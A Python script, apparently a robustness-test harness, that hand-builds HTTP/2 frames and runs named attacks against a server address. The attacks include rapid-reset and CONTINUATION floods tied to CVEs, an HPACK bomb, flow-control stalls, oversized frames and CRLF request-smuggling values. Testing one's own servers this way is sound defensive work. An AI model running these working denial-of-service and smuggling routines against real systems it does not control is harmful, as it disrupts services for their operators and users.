#!/usr/bin/env python3
"""A hostile HTTP/2 client that composes frames itself; each attack is a subcommand. Prints the server's reaction as JSON.

    h2raw.py unix:/run/gateway.sock rapid-reset --count 2000
    h2raw.py unix:/run/gateway.sock zero-window --target '/bytes?size=1000000' --deadline 5

    {"goaway": 11, "reason": "", "resets": {"7": 100}, "statuses": [200], "closed": true, "seconds": 0.04, …}

"closed" is false where the server kept the connection until the deadline. HPACK is read with the `hpack` package, which
python3-h2 brings.
"""
import argparse
import collections
import json
import select
import time

import hpack

import h1client

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
INITIAL_WINDOW_SIZE = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


# Frames (RFC 9113 §4.1) and literal field lines without indexing (RFC 7541 §6.2.2)


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def settings(*pairs):
    payload = b"".join(key.to_bytes(2, "big") + value.to_bytes(4, "big") for key, value in pairs)
    return frame(SETTINGS, 0, 0, payload)


def rst_stream(stream, code=8):
    return frame(RST_STREAM, 0, stream, code.to_bytes(4, "big"))


def integer(value, prefix):
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([value])
    out, value = [limit], value - limit
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out + [value])


def literal(name, value):
    return b"\0" + integer(len(name), 7) + name + integer(len(value), 7) + value


def request_block(options, method=b"GET"):
    fields = [(b":method", method), (b":scheme", b"http"), (b":authority", b"localhost"),
              (b":path", options.target.encode())]
    return b"".join(literal(*field) for field in fields)


def request(options, stream, method=b"GET", ends=True):
    return frame(HEADERS, END_HEADERS | (END_STREAM if ends else 0), stream, request_block(options, method))


class Raw:
    """A connection that records everything the server sends, and acknowledges SETTINGS only."""

    def __init__(self, options):
        self.options = options
        self.stream = h1client.connect(options.address, options.deadline)
        self.start = time.monotonic()
        self.unread = b""
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.resets, self.frames = collections.Counter(), collections.Counter()
        self.statuses, self.length = [], 0
        self.goaway = self.first = self.seconds = None
        self.reason = ""
        self.closed = False
        self.owed = b""
        self.acknowledges = False

    def hello(self, *pairs):
        self.send(PREFACE + settings(*pairs))
        self.acknowledges = True

    def send(self, data):
        """Reads while it writes, so that neither end waits for the other; stops if the server has closed."""
        self._write(data)
        self._acknowledge()

    def _acknowledge(self):
        """Sends between frames only: not before the preface, and not within an unfinished frame."""
        if self.acknowledges and self.owed:
            owed, self.owed = self.owed, b""
            self._write(owed)

    def _write(self, data):
        view = memoryview(data)
        deadline = self.start + self.options.deadline
        while view and not self.closed and time.monotonic() < deadline:
            readable, writable, _ = select.select([self.stream], [self.stream], [], 0.1)
            if readable:
                self.receive()
            if writable and not self.closed:
                try:
                    view = view[self.stream.send(view[:1 << 16]):]
                except OSError:
                    self.drain()

    def drain(self):
        """The server refuses more bytes; data that it sent before may still be readable."""
        while not self.closed:
            self.receive()

    def observe(self):
        """Reads until the server closes or the time is up."""
        deadline = self.start + self.options.deadline
        while not self.closed and time.monotonic() < deadline:
            if select.select([self.stream], [], [], max(0, deadline - time.monotonic()))[0]:
                self.receive()
                self._acknowledge()

    def receive(self):
        try:
            data = self.stream.recv(1 << 18)
        except OSError:
            data = b""
        if not data:
            self.closed = True
            self.seconds = time.monotonic() - self.start
            return
        self.first = self.first or data[:64]
        self.unread += data
        while len(self.unread) >= 9:
            length = int.from_bytes(self.unread[:3], "big")
            if len(self.unread) < 9 + length:
                return
            kind, flags = self.unread[3], self.unread[4]
            payload = self.unread[9:9 + length]
            self.unread = self.unread[9 + length:]
            self.note(kind, flags, payload)

    def note(self, kind, flags, payload):
        self.frames[kind] += 1
        if kind == GOAWAY:
            self.goaway = int.from_bytes(payload[4:8], "big")
            self.reason = payload[8:].decode("latin-1")
        elif kind == RST_STREAM:
            self.resets[int.from_bytes(payload, "big")] += 1
        elif kind == DATA:
            self.length += len(payload)
        elif kind == HEADERS:
            fields = self.decoder.decode(payload)
            self.statuses += [int(value) for name, value in fields if name == ":status"]
        elif kind == SETTINGS and not flags & ACK:
            self.owed += frame(SETTINGS, ACK, 0)

    def report(self):
        return {"goaway": self.goaway, "reason": self.reason, "resets": self.resets, "statuses": self.statuses,
                "length": self.length, "pings": self.frames[PING], "settings": self.frames[SETTINGS],
                "closed": self.closed, "seconds": self.seconds or time.monotonic() - self.start,
                "first": (self.first or b"").decode("latin-1")}


# Attacks


@attack
def polite(raw, options):
    """Sends one ordinary request, to check the client itself."""
    raw.hello()
    raw.send(request(options, 1))


@attack
def rapid_reset(raw, options):
    """Opens streams and cancels each immediately (CVE-2023-44487)."""
    raw.hello()
    for number in range(options.count):
        stream = 2 * number + 1
        raw.send(request(options, stream) + rst_stream(stream))


@attack
def provoked_reset(raw, options):
    """Makes the server reset the streams itself (CVE-2025-8671): WINDOW_UPDATE of 0 on each."""
    raw.hello()
    for number in range(options.count):
        stream = 2 * number + 1
        raw.send(request(options, stream) + frame(WINDOW_UPDATE, 0, stream, bytes(4)))


@attack
def settings_flood(raw, options):
    raw.hello()
    raw.send(settings((INITIAL_WINDOW_SIZE, 70_000)) * options.count)


@attack
def ping_flood(raw, options):
    raw.hello()
    raw.send(frame(PING, 0, 0, b"8 bytes.") * options.count)


@attack
def empty_data_flood(raw, options):
    """Sends DATA frames without content (CVE-2019-9518)."""
    raw.hello()
    raw.send(request(options, 1, b"POST", ends=False))
    raw.send(frame(DATA, 0, 1) * options.count)


@attack
def tiny_data_flood(raw, options):
    """Sends a body with one byte in each DATA frame."""
    raw.hello()
    raw.send(request(options, 1, b"POST", ends=False))
    raw.send(frame(DATA, 0, 1, b"x") * options.count)


@attack
def dribble(raw, options):
    """Requests a body and opens the window byte by byte (CVE-2019-9511)."""
    raw.hello((INITIAL_WINDOW_SIZE, 1))
    raw.send(request(options, 1))
    for _ in range(options.count):
        raw.send(frame(WINDOW_UPDATE, 0, 1, (1).to_bytes(4, "big")))


@attack
def endless_continuation(raw, options):
    """Sends a header block that never ends (CVE-2024-27316)."""
    raw.hello()
    raw.acknowledges = False
    raw.send(frame(HEADERS, END_STREAM, 1, request_block(options)))
    for _ in range(options.count):
        raw.send(frame(CONTINUATION, 0, 1, literal(b"x-more", b"v" * 1000)))


@attack
def huge_field_list(raw, options):
    """Sends a complete header block of `size` bytes, in as many frames as it needs."""
    block = request_block(options) + b"".join(literal(b"x-%d" % n, b"v" * 1000) for n in range(options.size // 1000))
    parts = [block[at:at + 16_384] for at in range(0, len(block), 16_384)]
    frames = b""
    for index, part in enumerate(parts):
        flags = (END_STREAM if index == 0 else 0) | (END_HEADERS if index == len(parts) - 1 else 0)
        frames += frame(CONTINUATION if index else HEADERS, flags, 1, part)
    raw.hello()
    raw.send(frames)


@attack
def hpack_bomb(raw, options):
    """Sends a small block that decodes to a large one: one large table entry, referenced repeatedly."""
    entry = b"\x40" + integer(6, 7) + b"x-bomb" + integer(4000, 7) + b"v" * 4000
    raw.hello()
    raw.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(options) + entry + b"\xbe" * 10_000))


@attack
def zero_window(raw, options):
    """Requests bodies and never opens the window for them."""
    raw.hello((INITIAL_WINDOW_SIZE, 0))
    for number in range(options.streams):
        raw.send(request(options, 2 * number + 1))


@attack
def deaf(raw, options):
    """Requests bodies, opens every window for them, and does not read the connection."""
    raw.hello((INITIAL_WINDOW_SIZE, (1 << 31) - 1))
    raw.send(frame(WINDOW_UPDATE, 0, 0, ((1 << 31) - (1 << 16)).to_bytes(4, "big")))
    for number in range(options.streams):
        raw.stream.sendall(request(options, 2 * number + 1))
    time.sleep(max(0, raw.start + options.deadline - time.monotonic()))


@attack
def slow_preface(raw, options):
    """Sends the preface, one byte every 100 ms."""
    for byte in PREFACE + settings() + request(options, 1):
        raw.send(bytes([byte]))
        time.sleep(0.1)


@attack
def idle(raw, options):
    raw.hello()


@attack
def mute(raw, options):
    """Connects and sends nothing."""


@attack
def garbage_preface(raw, options):
    raw.send(b"SSH-2.0-OpenSSH_9.2\r\n" + bytes(range(256)) * 4)


@attack
def http1_nonsense(raw, options):
    """Begins as HTTP/1.1 does, and continues with a field without a name."""
    raw.send(b"GET / HTTP/1.1\r\n: localhost\r\n\r\n")


@attack
def half_frame(raw, options):
    """Sends the first half of a HEADERS frame, then nothing."""
    raw.hello()
    raw.acknowledges = False
    whole = request(options, 1)
    raw.send(whole[:len(whole) // 2])


@attack
def half_block(raw, options):
    """Sends HEADERS without END_HEADERS, then nothing: an unfinished header block."""
    raw.hello()
    raw.acknowledges = False
    raw.send(frame(HEADERS, END_STREAM, 1, request_block(options)))


@attack
def half_upload(raw, options):
    """Sends half a body, then nothing."""
    raw.hello()
    raw.send(request(options, 1, b"POST", ends=False) + frame(DATA, 0, 1, b"x" * 1000))


@attack
def overflow_connection(raw, options):
    """Sends more DATA than the connection window allows, even after updates from the server."""
    raw.hello()
    raw.send(request(options, 1, b"POST", ends=False))
    for _ in range(options.size // 16_384):
        raw.send(frame(DATA, 0, 1, b"x" * 16_384))


@attack
def overflow_window_update(raw, options):
    """Opens a window beyond 2^31-1 (RFC 9113 §6.9.1)."""
    raw.hello()
    raw.send(frame(WINDOW_UPDATE, 0, 0, (0x7FFF_FFFF).to_bytes(4, "big")) * 2)


@attack
def too_many_streams(raw, options):
    """Opens more concurrent streams than the server allows, and ends none of them."""
    raw.hello()
    for number in range(options.count):
        raw.send(request(options, 2 * number + 1, b"POST", ends=False))


@attack
def large_frame(raw, options):
    """Sends a frame larger than SETTINGS_MAX_FRAME_SIZE."""
    raw.hello()
    raw.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, bytes(1 << 20)))


@attack
def connection_fields(raw, options):
    """Sends fields of HTTP/1.1 connections (RFC 9113 §8.2.2), as in request smuggling."""
    raw.hello()
    block = request_block(options) + literal(b"transfer-encoding", b"chunked")
    raw.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))


@attack
def line_break_in_value(raw, options):
    raw.hello()
    block = request_block(options) + literal(b"x-a", b"b\r\nx-smuggled: c")
    raw.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))


@attack
def line_break_in_path(raw, options):
    raw.hello()
    options.target = "/ HTTP/1.1\r\nx-smuggled: c\r\n\r\nGET /other"
    raw.send(request(options, 1))


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("address")
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--target", default="/")
    parser.add_argument("--count", type=int, default=10_000)
    parser.add_argument("--streams", type=int, default=1)
    parser.add_argument("--size", type=int, default=16 << 20)
    parser.add_argument("--deadline", type=float, default=10)
    options = parser.parse_args()
    raw = Raw(options)
    ATTACKS[options.attack](raw, options)
    raw.observe()
    print(json.dumps(raw.report()))


if __name__ == "__main__":
    main()
